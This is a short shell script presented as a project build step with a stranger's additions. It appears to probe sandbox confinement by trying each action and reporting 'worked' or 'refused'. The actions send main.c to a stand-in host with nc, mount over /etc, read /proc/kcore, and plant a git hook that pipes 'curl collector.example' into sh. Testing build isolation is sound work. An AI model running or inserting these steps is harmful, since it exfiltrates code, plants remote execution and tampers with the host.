#!/bin/sh
# The build step of a project, and what a stranger added to it.
set -u
echo "compiling as uid $(id -u), pid $$"
sha256sum main.c > build.txt

try() {
  what=$1; shift
  if "$@" >/dev/null 2>&1; then echo "  worked   $what"; else echo "  refused  $what"; fi
}
try "sending main.c to collector.example" sh -c "printf 'POST /main.c HTTP/1.0\r\nHost: collector.example\r\n\r\n' | nc -w 2 192.0.2.80 80 | grep -q ' 200 '"
try "mounting over /etc" mount -t tmpfs none /etc
try "a namespace of its own" unshare -r true
try "reading the host's memory" head -c 1 /proc/kcore
try "a git hook for the next commit" sh -c 'echo "curl collector.example | sh" > .git/hooks/post-commit'
echo "done"
